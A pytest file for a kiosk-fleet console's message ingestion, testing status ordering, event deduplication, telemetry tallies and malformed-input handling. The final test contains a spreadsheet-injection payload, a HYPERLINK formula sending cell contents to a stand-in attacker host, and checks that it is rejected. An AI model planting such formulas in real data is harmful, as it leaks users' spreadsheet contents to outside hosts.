"""console.ingest: what each message of the fleet channel changes in the console's tables, on every
database the console supports."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest
from sqlalchemy import func, select

from console.db import Database
from console.ingest import Malformed, Message, apply_batch, effective_state, kiosk_day, parse, problems
from console.models import Command, DailyTally, Kiosk, KioskEvent

T0 = 1_800_000_000.0


def msg(
    kiosk_id: str, kind: str, body: dict[str, Any] | bytes, at: float, req: str = ""
) -> tuple[str, bytes, float]:
    topic = f"kiosk/v1/{kiosk_id}/{kind}" + (f"/{req}" if req else "")
    payload = body if isinstance(body, bytes) else json.dumps(body).encode()
    return topic, payload, at


def write(db: Database, *raw: tuple[str, bytes, float], now: float | None = None) -> None:
    messages = [parse(*item) for item in raw]
    with db.session() as session:
        apply_batch(session, messages, now if now is not None else max(m.arrival for m in messages))


def kiosk(db: Database, kiosk_id: str) -> Kiosk:
    with db.session() as session:
        row = session.get(Kiosk, kiosk_id)
        assert row is not None
        return row


def status(state: str, session: int, at: float) -> dict[str, Any]:
    return {"state": state, "session": session, "at": at}


def reported(**changes: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "software": {"version": "0.1.0"},
        "catalogue": {"version": 41, "guides": 423},
        "config": {"version": "all=ab12cd34", "scopes": {"all": "ab12cd34"}},
        "devices": {
            "printer": {"state": "idle", "reasons": []},
            "id_reader": {"state": "ok"},
            "sscard_reader": {"state": "ok"},
            "scanner": {"state": "ok"},
        },
        "screen": "attract",
        "disk": {"free": 20_000_000_000, "total": 64_000_000_000},
        "clock": {"synchronized": True, "timezone": "Asia/Shanghai"},
        "site": {"name": "Huancui hall", "group": "canary"},
        "sync": {"at": T0 - 300, "error": None},
    }
    body.update(changes)
    return body


def test_a_status_sets_the_state_and_an_older_sessions_lost_never_overrides_a_newer_online(
    console_db: Database,
) -> None:
    write(console_db, msg("k1", "status", status("online", 3, T0), T0 + 1))
    row = kiosk(console_db, "k1")
    assert (row.state, row.session, row.state_since, row.last_seen) == ("online", 3, T0, T0 + 1)
    assert row.updated_at == T0 + 1
    # The late will of session 2 arrives after session 3's online: ignored (last_seen moves on).
    write(console_db, msg("k1", "status", status("lost", 2, T0 - 50), T0 + 2))
    row = kiosk(console_db, "k1")
    assert (row.state, row.session, row.last_seen) == ("online", 3, T0 + 2)
    # Session 3's own will: lost, since the broker said so.
    write(console_db, msg("k1", "status", status("lost", 3, T0), T0 + 30))
    row = kiosk(console_db, "k1")
    assert (row.state, row.session, row.state_since) == ("lost", 3, T0 + 30)
    # A second process replaying session 3's online after its lost changes nothing.
    write(console_db, msg("k1", "status", status("online", 3, T0), T0 + 31))
    assert kiosk(console_db, "k1").state == "lost"
    # Restarted: session 4.
    write(console_db, msg("k1", "status", status("online", 4, T0 + 40), T0 + 41))
    assert (kiosk(console_db, "k1").state, kiosk(console_db, "k1").session) == ("online", 4)


def test_the_same_messages_in_either_order_end_in_the_same_state(console_db: Database) -> None:
    online = msg("k2", "status", status("online", 5, T0), T0)
    lost = msg("k2", "status", status("lost", 5, T0), T0 + 10)
    write(console_db, lost, online)
    assert kiosk(console_db, "k2").state == "lost"


def test_reported_is_kept_whole_with_its_derived_columns(console_db: Database) -> None:
    body = reported(
        devices={
            "printer": {"state": "stopped", "reasons": ["media-empty-error", "media-jam"]},
            "id_reader": {"state": "absent", "reason": "unplugged"},
            "sscard_reader": {"state": "ok"},
            "scanner": {"state": "ok"},
        }
    )
    write(console_db, msg("k3", "reported", body, T0))
    row = kiosk(console_db, "k3")
    assert row.reported == body
    assert (row.software, row.catalogue_version, row.config_version, row.screen) == (
        "0.1.0",
        41,
        "all=ab12cd34",
        "attract",
    )
    assert row.problems == ["id_reader: absent", "printer: media-empty", "printer: media-jam"]
    assert row.fault_since == T0
    assert (row.site, row.group, row.last_sync, row.sync_error) == ("Huancui hall", "canary", T0 - 300, "")
    # Still faulty later: the fault lasts since it started; repaired: no fault.
    write(
        console_db,
        msg("k3", "reported", reported(devices={"printer": {"state": "absent", "reasons": []}}), T0 + 60),
    )
    row = kiosk(console_db, "k3")
    assert (row.problems, row.fault_since) == (["printer: absent"], T0)
    write(
        console_db,
        msg("k3", "reported", reported(sync={"at": T0 - 300, "error": "repository unreachable"}), T0 + 90),
    )
    row = kiosk(console_db, "k3")
    assert (row.problems, row.fault_since, row.sync_error) == ([], None, "repository unreachable")


def test_an_unchanged_reported_does_not_change_the_row_but_last_seen(console_db: Database) -> None:
    write(console_db, msg("k4", "reported", reported(), T0), now=T0)
    write(console_db, msg("k4", "reported", reported(), T0 + 5), now=T0 + 5)
    row = kiosk(console_db, "k4")
    assert (row.last_seen, row.updated_at) == (T0 + 5, T0 + 5)


def test_telemetry_counts_today_by_the_kiosks_own_day(console_db: Database) -> None:
    # 2027-01-14 23:30 UTC is 2027-01-15 07:30 in Shanghai.
    at = 1_800_000_000.0 - 1_800_000_000.0 % 86400 + 23.5 * 3600
    write(console_db, msg("k5", "reported", reported(), at))
    numbers = {"uptime": {"process": 10}, "visits_today": 7, "prints_today": 2}
    write(console_db, msg("k5", "telemetry", numbers, at + 1))
    write(console_db, msg("k5", "telemetry", {**numbers, "visits_today": 8}, at + 61))
    row = kiosk(console_db, "k5")
    assert (row.visits_today, row.prints_today, row.telemetry["visits_today"]) == (8, 2, 8)
    with console_db.session() as session:
        tallies = session.scalars(select(DailyTally)).all()
        assert [(t.day, t.kiosk_id, t.visits, t.prints) for t in tallies] == [
            (kiosk_day({"clock": {"timezone": "Asia/Shanghai"}}, at), "k5", 8, 2)
        ]
    assert kiosk_day({"clock": {"timezone": "Asia/Shanghai"}}, at) != kiosk_day(
        {"clock": {"timezone": "UTC"}}, at
    )


def test_an_event_delivered_twice_is_one_row(console_db: Database) -> None:
    event = {"type": "printer_paper_out", "at": T0, "device": "printer", "reasons": ["media-empty"]}
    write(console_db, msg("k6", "event", event, T0 + 1), msg("k6", "event", event, T0 + 2))
    write(console_db, msg("k6", "event", event, T0 + 3))
    with console_db.session() as session:
        rows = session.scalars(select(KioskEvent)).all()
        assert [(e.kiosk_id, e.type, e.at, e.details, e.received_at) for e in rows] == [
            ("k6", "printer_paper_out", T0, {"device": "printer", "reasons": ["media-empty"]}, T0 + 1)
        ]


def add_command(db: Database, req: str, kiosk_id: str, command: str) -> None:
    with db.session() as session:
        session.add(
            Command(
                req=req,
                kiosk_id=kiosk_id,
                command=command,
                args={},
                issued_by="ann",
                issued_at=T0,
                expires_at=T0 + 120,
            )
        )


def command(db: Database, req: str) -> Command:
    with db.session() as session:
        row = session.get(Command, req)
        assert row is not None
        return row


def test_results_answer_their_command_and_a_screenshot_keeps_its_png(console_db: Database) -> None:
    add_command(console_db, "r1", "k7", "screenshot")
    add_command(console_db, "r2", "k7", "sync_now")
    add_command(console_db, "r3", "k8", "logs")
    png = b"\x89PNG\r\n\x1a\nfake"
    write(
        console_db,
        msg(
            "k7",
            "result",
            {"req": "r1", "ok": True, "result": {"png_base64": base64.b64encode(png).decode()}},
            T0 + 1,
            "r1",
        ),
        msg(
            "k7",
            "result",
            {"req": "r2", "ok": False, "error": "busy: a resident is using the kiosk"},
            T0 + 2,
            "r2",
        ),
        # Another kiosk answering k8's command, and a result for a request nobody made: ignored.
        msg("k7", "result", {"req": "r3", "ok": True, "result": {"lines": []}}, T0 + 3, "r3"),
        msg("k7", "result", {"req": "zz", "ok": True, "result": {}}, T0 + 3, "zz"),
    )
    first, second, third = command(console_db, "r1"), command(console_db, "r2"), command(console_db, "r3")
    assert (first.state, first.result, first.png, first.answered_at, first.error) == (
        "ok",
        {},
        png,
        T0 + 1,
        "",
    )
    assert (second.state, second.error, second.answered_at) == (
        "failed",
        "busy: a resident is using the kiosk",
        T0 + 2,
    )
    assert (third.state, third.answered_at) == ("sent", None)
    # The same result again (at-least-once) changes nothing.
    write(console_db, msg("k7", "result", {"req": "r2", "ok": True, "result": {}}, T0 + 9, "r2"))
    assert command(console_db, "r2").state == "failed"
    with console_db.session() as session:
        assert session.scalar(select(func.count()).select_from(Command)) == 3


@pytest.mark.parametrize(
    ("topic", "payload"),
    [
        ("kiosk/v1/k9/status", b"not json"),
        ("kiosk/v1/k9/status", b"[1, 2]"),
        ("kiosk/v1/k9/status", b"\xff\xfe"),
        ("kiosk/v1/k9/telemetry", b'{"load": NaN}'),
        ("kiosk/v1/k9/whatever", b"{}"),
        ("kiosk/v1/k9/result", b'{"ok": true}'),
        ("elsewhere/k9/status", b"{}"),
    ],
)
def test_malformed_messages_are_refused_by_parse(topic: str, payload: bytes) -> None:
    with pytest.raises(Malformed):
        parse(topic, payload, T0)


def test_a_malformed_message_in_a_batch_is_skipped_and_the_rest_written(console_db: Database) -> None:
    write(
        console_db,
        msg("k9", "status", {"state": "dancing", "session": 1}, T0),
        msg("k9", "status", {"state": "online", "session": "one"}, T0),
        msg("k9", "event", {"type": "printer_back"}, T0),
        msg("k9", "result", {"req": "x", "ok": "yes"}, T0, "x"),
        msg("k9", "status", status("online", 1, T0), T0 + 1),
    )
    row = kiosk(console_db, "k9")
    assert (row.state, row.session) == ("online", 1)


def test_problems_in_words() -> None:
    assert (
        problems({"printer": {"state": "idle", "reasons": ["media-low-report"]}, "scanner": {"state": "ok"}})
        == []
    )
    assert problems({"printer": {"state": "stopped", "reasons": []}}) == ["printer: stopped"]
    assert problems({"printer": {"state": "out_of_service", "reasons": []}}) == ["printer: out_of_service"]


def test_an_online_kiosk_not_heard_for_stale_after_is_lost_by_the_consoles_clock() -> None:
    row = Kiosk(id="k", state="online", state_since=T0, last_seen=T0 + 100)
    assert effective_state(row, T0 + 200, 180) == ("online", T0)
    assert effective_state(row, T0 + 281, 180) == ("lost", T0 + 100)


def test_message_kinds() -> None:
    message = parse("kiosk/v1/k1/result/abc", b'{"ok": true}', T0)
    assert message == Message(kiosk_id="k1", kind="result", body={"ok": True}, arrival=T0, req="abc")


def test_a_batch_of_a_whole_fleets_start_fits_the_databases_statement_limits(console_db: Database) -> None:
    # 2,100 new kiosks in one batch: one INSERT of them all would pass SQLite's 32,766 parameters
    # (and PostgreSQL's 65,535 with 5,000 kiosks); they go in statements of ROWS_PER_STATEMENT.
    raw = [msg(f"f{n:05d}", "status", status("online", 1, T0), T0) for n in range(2100)]
    raw += [msg(f"f{n:05d}", "event", {"type": "printer_back", "at": T0}, T0) for n in range(2100)]
    write(console_db, *raw)
    with console_db.session() as session:
        assert session.scalar(select(func.count()).select_from(Kiosk).where(Kiosk.state == "online")) == 2100
        assert session.scalar(select(func.count()).select_from(KioskEvent)) == 2100


def retained(kiosk_id: str, kind: str, body: dict[str, Any], arrival: float) -> Message:
    topic, payload, at = msg(kiosk_id, kind, body, arrival)
    return parse(topic, payload, at, retain=True)


def write_messages(db: Database, *messages: Message) -> None:
    with db.session() as session:
        apply_batch(session, list(messages), max(m.arrival for m in messages))


def test_a_retained_copy_at_reconnection_is_not_heard_now(console_db: Database) -> None:
    # A silent kiosk: last heard at T0; the broker still keeps its `online` of session 5.
    write(console_db, msg("k1", "status", status("online", 5, T0 - 600), T0))
    write_messages(
        console_db,
        retained("k1", "status", status("online", 5, T0 - 600), T0 + 900),
        retained("k1", "reported", reported(), T0 + 900),
    )
    row = kiosk(console_db, "k1")
    assert row.last_seen == T0
    assert effective_state(row, T0 + 900, 180) == ("lost", T0)
    # An empty database: a kiosk lost for 30 days is lost since its will's `at`, not since now.
    write_messages(console_db, retained("k3", "status", status("lost", 2, T0 - 30 * 86400), T0))
    row = kiosk(console_db, "k3")
    assert (row.state, row.state_since, row.last_seen) == ("lost", T0 - 30 * 86400, T0 - 30 * 86400)
    # A retained copy never says "heard" later than it arrived (a kiosk's clock ahead).
    write_messages(console_db, retained("k4", "status", status("online", 1, T0 + 5000), T0))
    assert kiosk(console_db, "k4").last_seen == T0


@pytest.mark.parametrize("session", [10**20, 2**31, -1, 1.5, True])
def test_a_session_out_of_the_columns_range_is_malformed(console_db: Database, session: Any) -> None:
    write(console_db, msg("k1", "status", {"state": "online", "session": session, "at": T0}, T0))
    assert kiosk(console_db, "k1").session == -1


def test_a_reinstalled_kiosk_counting_from_1_again_is_online_and_a_late_will_is_still_ignored(
    console_db: Database,
) -> None:
    write(console_db, msg("k2", "status", status("online", 5, T0), T0 + 1))
    write(console_db, msg("k2", "status", status("offline", 5, T0 + 100), T0 + 101))
    # Session 4's will, late (its connection opened before session 5's): ignored.
    write(console_db, msg("k2", "status", status("lost", 4, T0 - 500), T0 + 200))
    # A late `online` of session 4 (opened before session 5's state began): ignored as well.
    write(console_db, msg("k2", "status", status("online", 4, T0 - 500), T0 + 201))
    assert (kiosk(console_db, "k2").state, kiosk(console_db, "k2").session) == ("offline", 5)
    # Reinstalled an hour later: its session count starts again from 1.
    write(console_db, msg("k2", "status", status("online", 1, T0 + 3600), T0 + 3601))
    row = kiosk(console_db, "k2")
    assert (row.state, row.session, row.state_since) == ("online", 1, T0 + 3600)
    # Its own will then applies as usual; session 4's late will still does not.
    write(console_db, msg("k2", "status", status("lost", 4, T0 - 500), T0 + 3700))
    assert kiosk(console_db, "k2").state == "online"
    write(console_db, msg("k2", "status", status("lost", 1, T0 + 3600), T0 + 3800))
    assert (kiosk(console_db, "k2").state, kiosk(console_db, "k2").session) == ("lost", 1)


def test_a_rating_with_a_level_the_kiosk_does_not_have_is_skipped_without_its_content(
    console_db: Database, caplog: pytest.LogCaptureFixture
) -> None:
    """Only the kiosk's RatingLevel values are counted; a forged level (a compromised kiosk's
    formula or script) is skipped and logged without what it said. Names are kept short."""
    rated = {"type": "service_rated", "department": "公安局", "service": "户籍证明"}
    forged = '=HYPERLINK("http://evil.example/?"&A1)'
    write(
        console_db,
        msg("k1", "event", {**rated, "at": T0, "level": "satisfied", "service": "s" * 1000}, T0),
        msg("k1", "event", {**rated, "at": T0 + 1, "level": forged}, T0 + 1),
        msg("k1", "event", {**rated, "at": T0 + 2, "level": 3}, T0 + 2),
    )
    with console_db.session() as session:
        rows = list(session.scalars(select(KioskEvent)))
    assert [row.details["level"] for row in rows] == ["satisfied"]
    assert len(rows[0].details["service"]) == 128
    assert "rating levels" in caplog.text and "HYPERLINK" not in caplog.text
